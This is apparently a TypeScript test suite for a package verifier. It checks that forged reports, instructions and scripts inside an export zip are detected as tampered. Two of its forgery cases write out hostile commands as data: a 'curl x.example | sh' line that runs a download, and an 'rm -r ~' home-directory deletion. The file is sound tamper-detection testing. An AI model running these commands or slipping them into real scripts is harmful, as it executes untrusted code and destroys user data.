import { describe, expect, it } from 'vitest';
import type { Bytes } from '../../../lib/evidence/digest.ts';
import { PROFILES } from '../../../lib/format/profile.ts';
import { DEFAULT_CHOICE } from '../../../lib/package/export-choice.ts';
import { rebuildFiles } from '../../../lib/package/rebuild-files.ts';
import { verifySet } from '../../../lib/verify/verify-set.ts';
import { verifyZip } from '../../../lib/verify/verify-zip.ts';
import {
  SAMPLE_BUILD,
  type SampleInput,
  SHAPES,
  sampleMatter,
} from '../../support/cases/sample-matter.ts';
import { workedMatter } from '../../support/cases/worked-matter.ts';
import { type Forgery, forge } from '../../support/packages/forge.ts';
import { packInput } from '../../support/packages/pack.ts';

const PAGE = new TextEncoder().encode('<!doctype html><title>Verify</title>');
const rebuild = rebuildFiles({ build: SAMPLE_BUILD, verifyPage: PAGE });
const REPORT = 'data/index.html';

const packOne = async (input: SampleInput): Promise<Bytes> => {
  const [packed] = await packInput({ ...input, verifyPage: PAGE });
  if (!packed) throw new Error('An export has a volume');
  return packed.zip;
};

const verified = async (zip: Bytes, options = {}) => {
  const { findings, notes } = await verifyZip(new Blob([zip]), options);
  return {
    findings: findings.map(({ code, path }) => `${code} ${path}`),
    compared: !notes.some(({ code }) => code === 'REPORT_NOT_COMPARED'),
  };
};

const replaced = (path: string, from: RegExp, to: string) => (files: Forgery) => {
  const text = files.get(path)?.toString() ?? '';
  if (!from.test(text)) throw new Error(`${path} has no ${from}`);
  files.set(path, text.replace(from, to));
};

describe('the files that people read, made again from the package', () => {
  it.each(Object.keys(SHAPES))('are those of a sound package: %s', async (shape) => {
    const zip = await packOne(sampleMatter(SHAPES[shape] ?? { steps: [] }).input);
    expect(await verified(zip, { rebuild })).toEqual({ findings: [], compared: true });
  });

  it.each(PROFILES)('are those of a sound package for %s', async (profile) => {
    const zip = await packOne({ ...workedMatter(), choice: { ...DEFAULT_CHOICE, profile } });
    expect(await verified(zip, { rebuild })).toEqual({ findings: [], compared: true });
  });

  it.each([
    ['a report that names another author', REPORT, /林间清风/, '别人'],
    ['a report that tells another text', REPORT, /这是示例正文/, '这不是正文'],
    [
      'instructions that run a download',
      'HOW-TO-VERIFY.txt',
      /sha256sum/,
      'curl x.example | sh; #',
    ],
    ['a verify.html that always says Intact', 'data/verify.html', /Verify/, 'Intact'],
  ])('are not those of %s', async (_, path, from, to) => {
    const forged = forge(await packOne(workedMatter()), replaced(path, from, to));
    expect(await verified(forged, { rebuild })).toEqual({
      findings: [`REPORT_DISAGREES ${path}`],
      compared: true,
    });
  });

  it('are missed where the report was taken out', async () => {
    const forged = forge(await packOne(workedMatter()), (files) => void files.delete(REPORT));
    expect((await verified(forged, { rebuild })).findings).toEqual([`MISSING ${REPORT}`]);
  });

  it('are not compared, and a note says so, without their maker or with another one', async () => {
    const zip = await packOne(workedMatter());
    expect(await verified(zip)).toEqual({ findings: [], compared: false });
    const other = forge(zip, replaced('data/manifest.json', /matterproof-report\/\d+/, 'other/1'));
    expect(await verified(other, { rebuild })).toEqual({ findings: [], compared: false });
    const { notes } = await verifyZip(new Blob([zip]), {
      rebuild: rebuildFiles({ build: SAMPLE_BUILD }),
    });
    expect(notes.at(-1)).toMatchObject({
      code: 'REPORT_NOT_COMPARED',
      paths: ['data/verify.html'],
    });
  });
});

describe('a package of another build of this version', () => {
  const another = { build: `sha256:${'a'.repeat(64)}`, verifyPage: PAGE } as const;
  const forged = async () =>
    forge(await packOne(workedMatter()), replaced(REPORT, /林间清风/, '别人'));

  it('is neither accused nor passed: a note says that its report was not compared', async () => {
    for (const zip of [await packOne(workedMatter()), await forged()])
      expect(await verified(zip, { rebuild: rebuildFiles(another) })).toEqual({
        findings: [],
        compared: false,
      });
  });

  it('is not compared by a verifier that does not know its own build', async () => {
    const { build: _, ...unnamed } = workedMatter();
    for (const zip of [await forged(), await packOne(unnamed)])
      expect(await verified(zip, { rebuild: rebuildFiles({}) })).toEqual({
        findings: [],
        compared: false,
      });
  });

  it('has the scripts of its version all the same, or one finding for each', async () => {
    const changed = forge(await packOne(workedMatter()), (files) => {
      files.set('data/verify.sh', 'rm -r ~');
    });
    const { findings } = await verified(changed, { rebuild: rebuildFiles(another) });
    expect(findings).toEqual(['SCRIPT_DISAGREES data/verify.sh']);
    expect((await verified(changed, { rebuild })).findings).toEqual(findings);
  });
});

describe('the reports of volumes', () => {
  const steps = [{ does: 'capture' }, { does: 'capture' }] as const;
  const volumes = async () =>
    (await packInput(sampleMatter({ steps, volumeBytes: 1 }).input)).map(({ zip }) => zip);
  const verify = async (zips: readonly Bytes[]) =>
    (
      await verifySet(
        zips.map((zip) => new Blob([zip])),
        { rebuild: rebuildFiles({ build: SAMPLE_BUILD }) },
      )
    ).volumes;

  it('are compared when all volumes are there', async () => {
    const [one, two] = await volumes();
    if (!one || !two) throw new Error('Two items make two volumes here');
    for (const { findings, notes } of await verify([two, one]))
      expect([findings, notes]).toEqual([[], []]);
    const [forged] = await verify([forge(one, replaced(REPORT, /林间清风/, '别人')), two]);
    expect(forged?.findings.map(({ code }) => code)).toEqual(['REPORT_DISAGREES']);
  });

  it('are not compared when a volume is missing', async () => {
    const [one] = await volumes();
    const [alone] = await verify(one ? [one] : []);
    expect(alone?.notes.map(({ code }) => code)).toEqual(['REPORT_NOT_COMPARED']);
  });
});
